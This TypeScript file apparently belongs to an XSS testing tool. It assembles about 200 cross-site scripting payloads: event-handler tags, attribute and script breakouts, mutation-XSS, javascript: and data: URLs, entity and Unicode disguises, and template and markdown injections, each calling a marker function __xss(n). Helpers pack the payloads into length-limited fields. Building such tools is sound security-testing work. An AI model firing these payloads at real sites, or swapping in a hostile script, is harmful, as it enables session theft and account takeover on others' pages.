/**
 * Texts that become a program wherever a page takes text for markup, an address or a template: 200 and some of them, all
 * short enough to lie several in one field. Each that runs calls `__xss(n)` with its own number, or opens a dialog.
 */

/** Handlers that need no person, each on an element that fires it by itself. */
const selfFiring = [
  '<img src=x onerror=@>',
  '<img src=x oNeRrOr=@>',
  '<img/src=x/onerror=@>',
  '<img src=x:x onerror="@">',
  "<img src='x' onerror='@'>",
  '<IMG SRC=x ONERROR=@>',
  '<img src=x\tonerror=@>',
  '<img src=x\u000conerror=@>',
  '<img """><img src=x onerror=@>',
  '<img src=x onerror=@//',
  '<img srcset=x onerror=@>',
  '<image src=x onerror=@>',
  '<svg onload=@>',
  '<svg/onload=@>',
  '<svg><script>@</script></svg>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><set onbegin=@ attributeName=x>',
  '<svg><image href=x onerror=@>',
  '<svg><style><img src=x onerror=@></style>',
  '<svg><a xlink:href="javascript:@"><text y=9>x',
  '<svg><foreignObject><img src=x onerror=@>',
  '<svg><use href="data:image/svg+xml,<svg onload=@>">',
  '<body onload=@>',
  '<body onpageshow=@>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@>',
  '<textarea autofocus onfocus=@>',
  '<button autofocus onfocus=@>',
  '<a autofocus tabindex=1 onfocus=@>x</a>',
  '<details open ontoggle=@>',
  '<video src=x onerror=@>',
  '<video><source onerror=@>',
  '<audio src=x onerror=@>',
  '<object data=x onerror=@>',
  '<embed src=x onerror=@>',
  '<iframe onload=@>',
  '<iframe srcdoc="<script>parent.@</script>">',
  '<iframe src="javascript:parent.@">',
  '<iframe src="data:text/html,<script>@</script>">',
  '<object data="javascript:@">',
  '<embed src="javascript:@">',
  '<marquee onstart=@>x</marquee>',
  '<link rel=stylesheet href=x onerror=@>',
  '<script>@</script>',
  '<ScRiPt>@</sCrIpT>',
  '<script/x>@</script>',
  '<script\n>@</script\n>',
  '<script>@<!--',
  '<script src="data:text/javascript,@"></script>',
  '<scr<script>ipt>@</scr</script>ipt>',
  '<style onload=@></style>',
  '<style>@import "javascript:@";</style>',
  '<base href="javascript:/a/-@//">',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<form action="javascript:@"><input type=submit>',
  '<isindex type=image src=x onerror=@>',
  '<div style="animation:spin 1s" onanimationstart=@>',
  '<div onpointerenter=@ style="position:fixed;inset:0">',
  '<div contenteditable autofocus onfocus=@>',
  '<dialog open oncancel=@ onclose=@>x</dialog>',
  '<x onclick=@ tabindex=1 autofocus onfocus=@>x',
] as const;

/** Handlers that wait for a person, on whatever tag. */
const handlers = ['click', 'mouseover', 'mouseenter', 'focusin', 'keydown', 'wheel', 'copy', 'paste', 'drag', 'scroll'];
const tags = ['a', 'b', 'p', 'div', 'bdi', 'h1', 'td', 'xss', 'svg'];

/** Ways out of a place that somebody thought closed: attributes, comments, scripts, styles, JSON, other parsers. */
const breaks = [
  '"><img src=x onerror=@>',
  "'><img src=x onerror=@>",
  '`><img src=x onerror=@>',
  '"onmouseover=@ x="',
  "'onmouseover='@",
  '" autofocus onfocus=@ x="',
  '"/><svg onload=@>',
  '--><img src=x onerror=@>',
  '--!><img src=x onerror=@>',
  ']]><img src=x onerror=@>',
  '</title><img src=x onerror=@>',
  '</textarea><img src=x onerror=@>',
  '</style><img src=x onerror=@>',
  '</script><img src=x onerror=@>',
  '</noscript><img src=x onerror=@>',
  '</template><img src=x onerror=@>',
  '</bdi></p><img src=x onerror=@>',
  '</svg><img src=x onerror=@>',
  '\\"});@;//',
  "\\');@;//",
  "';@;'",
  '";@;"',
  '`;@;`',
  '*/@/*',
  '\u2028@\u2029',
  '{"__proto__":{"innerHTML":"<img src=x onerror=@>"}}',
  '{"constructor":{"prototype":{"srcdoc":"<script>@</script>"}}}',
  '%3Cimg%20src%3Dx%20onerror%3D@%3E',
  '%253Cscript%253E@%253C%252Fscript%253E',
  '\\u003cimg src=x onerror=@\\u003e',
  '\\x3cimg src=x onerror=@\\x3e',
  '+ADw-script+AD4-@+ADw-/script+AD4-',
] as const;

/** What a cleaner takes for harmless and a browser's second look does not. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=@>',
  '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=@ src=x>">',
  '<svg></p><style><a id="</style><img src=x onerror=@>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>',
  '<listing><img src=x onerror=@></listing>',
  '<xmp><img src=x onerror=@></xmp>',
  '<plaintext><img src=x onerror=@>',
  '<template><img src=x onerror=@></template>',
  '<table><td><script>@</script>',
  '<select><iframe><script>@</script></iframe></select>',
  '<a href="x`onmouseover=@">x</a>',
  '<p id="`onmouseover=@//">x',
  '<img alt="`><img src=x onerror=@>">',
  '<!--[if IE]><script>@</script><![endif]-->',
  '<!--><img src=x onerror=@>-->',
  '<?xml version="1.0"?><svg onload=@>',
  '<![CDATA[<img src=x onerror=@>]]>',
  '<!DOCTYPE x [<!ENTITY y "<svg onload=@>">]>&y;',
  '<div id=x><a name=innerHTML>@</a></div>',
] as const;

/** Addresses: dangerous only where they become a link, a frame or a picture. */
const addresses = [
  'javascript:@',
  'JaVaScRiPt:@',
  ' javascript:@',
  'java\tscript:@',
  'java\nscript:@',
  '\u0001javascript:@',
  'javascript://%0a@',
  'javascript:/*--></title></style>*/@',
  'javascript&colon;@',
  'jav&#x09;ascript:@',
  '&#106;avascript:@',
  '&#x6A&#x61vascript:@',
  'vbscript:@',
  'data:text/html,<script>@</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+#@',
  'data:image/svg+xml,<svg onload=@>',
  'data:application/xhtml+xml,<script>@</script>',
  'blob:javascript:@',
  'view-source:javascript:@',
  'filesystem:javascript:@',
  '//evil.example/@',
  '/\\evil.example/@',
  'https://evil.example@127.0.0.1/@',
  'http://127.0.0.1/"onmouseover="@',
  "http://127.0.0.1/'><img src=x onerror=@>",
  '<a href="javascript:@">x</a>',
  '<a href="data:text/html,<script>@</script>">x</a>',
  '<a href="java&#10;script:@">x</a>',
  '<area href="javascript:@">',
  '<button formaction="javascript:@">x',
] as const;

/** Entities, and letters that are not what they look like. */
const disguises = [
  '&lt;img src=x onerror=@&gt;',
  '&amp;lt;img src=x onerror=@&amp;gt;',
  '&#60;img src=x onerror=@&#62;',
  '&#x3c;svg onload=@&#x3e;',
  '&lt;script&gt;@&lt;/script&gt;',
  '<img src=x onerror=&#95;&#95;xss(0)>@',
  '\uff1cimg src=x onerror=@\uff1e',
  '\u2039script\u203a@\u2039/script\u203a',
  '<\u0131mg src=x onerror=@>',
  '<\u017fvg onload=@>',
  '<img src=x onerror\u2063=@>',
  '\u202e<img src=x onerror=@>',
  '\u200f<svg onload=@>\u200e',
  '\ufeff<script>@</script>',
  'Z\u0351\u0357<img src=x onerror=@>',
  '\u{1f469}\u200d\u{1f4bb}<svg onload=@>',
] as const;

/** Templates of every taste, and the signs that messengers take for formatting. */
const templates = [
  '{{@}}',
  '{{{@}}}',
  "{{constructor.constructor('@')()}}",
  "{{_openBlock.constructor('@')()}}",
  "{{$el.ownerDocument.defaultView.eval('@')}}",
  '\u0024{@}',
  '#{@}',
  '<%= @ %>',
  '[[@]]',
  '$t(nav.trace) @',
  '$t(<img src=x onerror=@>)',
  '<div v-html="\'<img src=x onerror=@>\'">',
  '<p @click="@" :style="@">x',
  '<component :is="\'script\'">@</component>',
  '<x v-on:load="@"></x>',
  '*<img src=x onerror=@>*',
  '_<svg onload=@>_',
  '~<script>@</script>~',
  '```<img src=x onerror=@>```',
  '> <img src=x onerror=@>',
  '- [x](javascript:@)',
  '![x](x"onerror="@)',
  '[x](data:text/html,<script>@</script>)',
  '<javascript:@>',
  '# <img src=x onerror=@>',
  '| <svg onload=@> |',
] as const;

const styles = [
  '<div style="background:url(javascript:@)">',
  '<div style="width:expression(@)">',
  '<div style="behavior:url(#@)">',
  '<style>*{background:url("javascript:@")}</style>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=@>',
  'red;background:url(javascript:@)',
  '"style="position:fixed;inset:0" onclick=@ x="',
] as const;

const waiting = handlers.map((name, index) => `<${tags[index % tags.length]} on${name}=@>x`);
const dialogs = ['alert', 'confirm', 'prompt', 'print'].map((name) => `<img src=x onerror=${name}(@)>`);

/** `@` is the call with the payload's own number; `@import` and `@keyframes` are themselves. */
export const payloads: readonly string[] = [
  ...selfFiring,
  ...waiting,
  ...breaks,
  ...mutations,
  ...addresses,
  ...disguises,
  ...templates,
  ...styles,
  ...dialogs,
].map((payload, index) => payload.replaceAll(/@(?!import|keyframes|click|127)/g, `__xss(${index})`));

/** Hands payloads out by turns, so many as a field of a length takes, one at least if it fits. */
export function packer(): (room: number) => string {
  let next = 0;
  return (room) => {
    const taken: string[] = [];
    let left = room;
    for (let looked = 0; looked < payloads.length; looked += 1) {
      const payload = payloads[next % payloads.length]!;
      if (payload.length + 1 > left) {
        // Too long for what is left of this field: a later one has room for it.
        if (taken.length > 0) break;
        next += 1;
        continue;
      }
      taken.push(payload);
      left -= payload.length + 1;
      next += 1;
    }
    return taken.join(' ');
  };
}

/** White space as a page keeps it or not, and signs that only steer: no part of what is looked for. */
export function flat(text: string): string {
  return text.replaceAll(/[\s\u0000-\u001f\ufeff]+/g, '');
}
